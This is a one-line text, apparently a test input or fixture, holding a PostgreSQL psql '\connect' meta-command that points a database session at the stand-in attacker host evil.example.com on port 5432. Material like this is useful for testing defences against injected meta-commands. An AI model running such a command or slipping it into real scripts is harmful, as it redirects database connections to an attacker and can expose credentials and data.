\connect db user evil.example.com 5432
